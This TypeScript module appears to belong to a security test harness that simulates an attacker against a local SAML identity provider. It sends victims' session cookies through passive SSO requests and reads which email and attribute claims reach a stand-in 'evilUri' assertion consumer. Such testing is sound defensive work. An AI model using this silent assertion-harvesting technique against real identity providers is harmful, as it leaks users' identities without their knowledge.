import { randomBytes } from "node:crypto";
import { openBrowser } from "../../sites/federation/support/place.ts";
import type { Visited } from "../../sites/oidc/support/user-agent.ts";
import { toQuery, writeRequest } from "../../sites/saml/support/messages.ts";
import type { Finding } from "./findings.ts";
import type { Ground } from "./ground.ts";
import type { Scene } from "./scene.ts";
import { isConnected } from "./victims.ts";
import { evilUri, portalUri, type Victim } from "./world.ts";

/** Sends a user with a session to a service provider of SAML, and follows. `isPassive`: no page may be shown (SAML Core §3.4.1). */
export async function sendToPortal(
  { service }: Ground,
  { cookie }: Pick<Victim, "cookie">,
  { entityId, isPassive }: { readonly entityId: string; readonly isPassive: boolean },
) {
  const browser = openBrowser(service);
  const [name = "", value = ""] = cookie.split("=");
  browser.cookies.set(name, value);
  const destination = `http://localhost:${service.port}/saml/v2/SSO`;
  const own = {
    entityId,
    id: `_${randomBytes(8).toString("hex")}`,
    nowMs: service.clock.nowMs(),
    destination,
  };
  const xml = writeRequest(own, { attributes: { IsPassive: String(isPassive) } });
  return { browser, page: await browser.open(`${destination}?${toQuery("SAMLRequest", xml, {})}`) };
}

/** Sends each victim, without a page, to each service provider whose assertions come to the actor. */
export async function sendToPortals({ world, actor }: Scene): Promise<readonly Finding[]> {
  const { ground, organizations, victims } = world;
  const rows = await ground.service.place.raw.peek<Record<string, string>>(
    `SELECT id, entity_id, project_id, resource_owner, assertion_consumer_services AS acs
       FROM stored_applications WHERE kind = 'saml' AND entity_id IS NOT NULL`,
  );
  const own = [evilUri, ...(actor.runsPortal ? [portalUri] : [])];
  const found: Finding[] = [];
  for (const {
    id = "",
    entity_id: entityId = "",
    project_id: projectId = "",
    resource_owner: owner,
    acs = "",
  } of rows) {
    if (!own.some((uri) => acs.includes(uri))) continue;
    for (const victim of victims) {
      const isSameOrganization = owner === organizations[victim.place];
      const { page } = await sendToPortal(ground, victim, { entityId, isPassive: true });
      const at = {
        app: id,
        isSameOrganization,
        isConnected: await isConnected(world, victim, projectId),
        isConfirmed: entityId === portalUri && victim.name === "anna",
      };
      found.push(...readClaims(page).map((what): Finding => ({ kind: "learns", what, of: victim.name, at })));
    }
  }
  return found;
}

/** Returns what an assertion tells; nothing if there is none. */
function readClaims({ url, posted }: Visited): readonly string[] {
  const [, answer = ""] = posted?.find(([name]) => name === "SAMLResponse") ?? [];
  const xml = Buffer.from(answer, "base64").toString();
  if (![evilUri, portalUri].includes(url.href) || !xml.includes("status:Success")) return [];
  const [, format = ""] = /<(?:\w+:)?NameID\b[^>]* Format="([^"]*)"/.exec(xml) ?? [];
  const names = Array.from(
    xml.matchAll(/<(?:\w+:)?Attribute\b[^>]* Name="([^"]*)"/g),
    ([, name = ""]) => name,
  );
  return [format.endsWith("emailAddress") ? "email" : "sub", ...names];
}
